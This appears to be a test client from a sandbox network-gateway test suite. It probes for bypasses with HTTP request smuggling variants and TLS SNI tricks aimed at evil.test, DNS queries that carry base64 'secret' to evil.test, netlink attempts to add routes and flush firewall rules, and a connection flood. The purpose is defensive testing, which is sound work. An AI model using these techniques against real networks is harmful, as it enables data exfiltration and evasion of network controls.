"""attack_client.py WHAT…: a program in a world that tries one way around the gateway.

Prints what it got and exits with 0; "refused: WHY" and 1 when it was refused or heard nothing. See network_attacks.bats.
"""

import selectors
import socket
import ssl
import struct
import subprocess
import sys
import threading

LIMIT = 40


class Refused(Exception):
    pass


def connect(host, port):
    s = socket.create_connection((host, int(port)), timeout=LIMIT)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def read_all(s):
    got = b""
    try:
        while data := s.recv(65536):
            got += data
            if b"\n" in got and (not got.startswith(b"HTTP/1") or b"\r\n\r\n" in got):
                break
    except ConnectionError as error:
        if not got:
            raise Refused(error) from error
    if not got:
        raise Refused("nothing came back")
    return got


def body(answer):
    return answer.partition(b"\r\n\r\n")[2].decode(errors="replace").strip()


def tls(host, port, name, how):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname=None if name == "-" else name)
    s = connect(host, port)
    asked, got = False, b""
    try:
        if how == "alert":
            s.sendall(b"\x15\x03\x01\x00\x02\x01\x5a")
        while "\n" not in got.partition(b"\r\n\r\n")[2].decode():
            try:
                if not asked:
                    session.do_handshake()
                    session.write(f"GET / HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())
                    asked = True
                got += session.read(65536)
                continue
            except ssl.SSLWantReadError:
                pass
            pending = outgoing.read()
            step = 1 if how == "bytes" else max(len(pending), 1)
            for at in range(0, len(pending), step):
                s.sendall(pending[at:at + step])
            data = s.recv(65536)
            if not data:
                break
            incoming.write(data)
    except (ssl.SSLError, ConnectionError) as error:
        raise Refused(error) from error
    if not got:
        raise Refused("nothing came back")
    print(body(got))


def extension(kind, value):
    return struct.pack(">HH", kind, len(value)) + value


def server_name(name):
    return extension(0, struct.pack(">HBH", len(name) + 3, 0, len(name)) + name)


def hello(host, port, how):
    hidden = extension(0xFE0D, b"\0\0\1\0\1\7\0\x20" + bytes(32) + b"\0\x10" + bytes(16))
    extensions = {"ech": server_name(host.encode()) + hidden, "two": server_name(host.encode()) + server_name(b"evil.test"),
                  "ssl2": b""}[how]
    inner = b"\3\3" + bytes(32) + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack(">H", len(extensions)) + extensions
    message = b"\x16\3\1" + struct.pack(">H", len(inner) + 4) + b"\1" + struct.pack(">I", len(inner))[1:] + inner
    if how == "ssl2":
        message = b"\x80\x2e\1\3\1\0\x15\0\0\0\x10" + bytes(37)
    s = connect(host, port)
    s.sendall(message)
    print(repr(read_all(s)))


def http(host, port, how):
    evil = "Host: evil.test\r\n\r\n"
    own = f"Host: {host}\r\n"
    upgrade = "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"
    requests = {
        "empty-lines": f"\r\n\r\nGET / HTTP/1.1\r\n{evil}",
        "lower-case": f"get / HTTP/1.1\r\n{evil}",
        "tabs": f"GET\t/\tHTTP/1.1\r\n{evil}",
        "version": f"GET / http/1.1\r\n{evil}",
        "long-method": f"{'G' * 60} / HTTP/1.1\r\n{evil}",
        "bare-lf": "GET / HTTP/1.1\nHost: evil.test\n\n",
        "old-form": "GET http://evil.test/\r\n",
        "absolute": f"GET http://evil.test/ HTTP/1.1\r\n{own}\r\n",
        "two-hosts": f"GET / HTTP/1.1\r\n{own}{evil}",
        "folded": f"GET / HTTP/1.1\r\nHost:\r\n evil.test\r\n{own}\r\n",
        "sibling": "GET / HTTP/1.1\r\nHost: registry.test\r\n\r\n",
        "keep-alive": f"GET /1 HTTP/1.1\r\n{own}\r\n",
        "h2c": f"GET /1 HTTP/1.1\r\n{own}{upgrade}\r\n",
    }
    s = connect(host, port)
    s.sendall(requests[how].encode())
    if how not in ("keep-alive", "h2c"):
        print(body(read_all(s)))
        return
    got = b""
    while b"/1\n" not in got:
        data = s.recv(65536)
        if not data:
            sys.exit("the first request was not answered")
        got += data
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" if how == "h2c" else f"GET /2 HTTP/1.1\r\n{evil}".encode())
    print(read_all(s))


TYPES = {"A": 1, "NS": 2, "SOA": 6, "NULL": 10, "MX": 15, "TXT": 16, "SRV": 33, "AXFR": 252, "ANY": 255}


def question(labels, kind=1, flags=0x0100, counts=(1, 0, 0, 0)):
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    head = struct.pack(">HHHHHH", 0x1234, flags, *counts)
    return head + name + struct.pack(">HH", kind, 1)


def dns_message(form):
    own, evil = [b"pypi", b"test"], [b"c2VjcmV0", b"evil", b"test"]
    head = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    if form.startswith("type-"):
        return question(own, TYPES[form.removeprefix("type-")])
    return {
        "plain": question(own),
        "trickle": question(own),
        "upper-case": question([b"PYPI", b"tEst"]),
        "upper-case-evil": question([b"C2VjcmV0", b"EVIL", b"TEST"]),
        "nul": question([b"pypi\0evil", b"test"]),
        "dot-in-label": question([b"c2VjcmV0.evil", b"test"]),
        "loop": head + b"\xc0\x0c\0\1\0\1",
        "forward-loop": head + b"\x01a\xc0\x10\xc0\x0c\0\1\0\1",
        "label-64": head + b"\x40" + b"a" * 64 + b"\0\0\1\0\1",
        "longest": question([b"a" * 63] * 3 + [b"b" * 50, b"wild", b"test"]),
        "longest-evil": question([b"a" * 63] * 3 + [b"b" * 50, b"evil", b"test"]),
        "two-questions": question(own, counts=(2, 0, 0, 0)) + question(evil)[12:],
        "truncated": question(own)[:-3],
        "response": question(own, flags=0x8180),
        "notify": question(own, flags=0x2000),
        "empty": b"",
    }[form]


def receive_framed(s):
    got = b""
    while len(got) < 2 or len(got) < 2 + struct.unpack(">H", got[:2])[0]:
        data = s.recv(4096)
        if not data:
            raise Refused("closed")
        got += data
    return got[2:]


def dns(form, way="udp"):
    messages = [dns_message(form)]
    # Never answered: what comes first is the answer to the next question.
    unanswered = form in ("response", "empty")
    if unanswered:
        messages.append(question([b"pypi", b"test"]))
    if way == "udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(LIMIT)
        s.connect(("127.0.0.53", 53))
        for message in messages:
            s.send(message)
        reply = s.recv(4096)
    else:
        s = connect("127.0.0.53", 53)
        for message in messages:
            framed = struct.pack(">H", len(message)) + message
            step = 1 if form == "trickle" else len(framed)
            for at in range(0, len(framed), step):
                s.sendall(framed[at:at + step])
        reply = receive_framed(s)
    if reply[:2] != messages[-1][:2]:
        sys.exit(f"the answer to another question: {reply}")
    code = reply[3] & 15
    if unanswered:
        print("nothing" if code == 0 else "answered")
    elif code == 0 and reply[7]:
        print(code, ".".join(str(byte) for byte in reply[-4:]))
    else:
        print(code)


def netlink():
    route, netfilter = 0, 12
    get = struct.pack("=IHHII", 32, 16, 5, 1, 0) + struct.pack("=BxHiII", 0, 0, 1, 0, 1)
    new_route = struct.pack("=IHHII", 28, 24, 0x405, 2, 0) + bytes([2, 0, 0, 0, 254, 3, 0, 1]) + bytes(4)
    part = struct.pack("=BBH", 0, 0, socket.htons(10))
    flush = (struct.pack("=IHHII", 20, 16, 1, 0, 0) + part + struct.pack("=IHHII", 20, 10 << 8 | 2, 5, 1, 0) + b"\1\0\0\0" +
             struct.pack("=IHHII", 20, 17, 1, 2, 0) + part)
    answers = []
    for protocol, message in ((route, get), (route, new_route), (netfilter, flush)):
        try:
            s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
            s.settimeout(5)
            s.send(message)
            reply = s.recv(4096)
        except OSError as error:
            answers.append((protocol, error.errno))
            continue
        kind, code = struct.unpack("=H", reply[4:6])[0], struct.unpack("=i", reply[16:20])[0]
        if kind == 2 and code == 0:
            sys.exit(f"done: netlink {protocol}")
        answers.append((protocol, code))
    print("refused", answers)


def many(host, port, count):
    selector = selectors.DefaultSelector()
    address = (socket.gethostbyname(host), int(port))
    held, refused, waiting = [], 0, set()
    for _ in range(int(count)):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(address)
        selector.register(s, selectors.EVENT_WRITE)
        waiting.add(s)
    # All at once: each says a word, and hears it again or is refused.
    while waiting:
        ready = selector.select(LIMIT)
        if not ready:
            sys.exit(f"{len(waiting)} connections heard nothing")
        for key, events in ready:
            s, data = key.fileobj, b""
            try:
                if events & selectors.EVENT_WRITE:
                    s.send(b"word\n")
                    selector.modify(s, selectors.EVENT_READ)
                    continue
                data = s.recv(16)
            except OSError:
                pass
            selector.unregister(s)
            waiting.discard(s)
            if data == b"word\n":
                held.append(s)
            else:
                refused += 1
                s.close()
    print(len(held), refused)


def slow(host, port):
    s = connect(host, port)
    s.sendall(b"go\n")
    first = s.recv(1)
    done = []
    command = ["curl", "-sS", "--max-time", str(LIMIT), f"http://{host}/"]
    fast = threading.Thread(target=lambda: done.append(subprocess.run(command, capture_output=True, check=False).stdout))
    fast.start()
    fast.join()
    rest = read_all(s)
    print((first + rest).decode().strip(), "and curl" if done[0].startswith(b"44.") else f"but {done}")


def half(host, port, file):
    s = connect(host, port)
    with open(file, "rb") as said:
        s.sendall(said.read())
    s.shutdown(socket.SHUT_WR)
    print(read_all(s).decode().strip())


def reach(host, port):
    print(read_all(connect(host, port)).decode().strip())


try:
    globals()[sys.argv[1]](*sys.argv[2:])
except (Refused, OSError) as refusal:
    print("refused:", refusal)
    sys.exit(1)
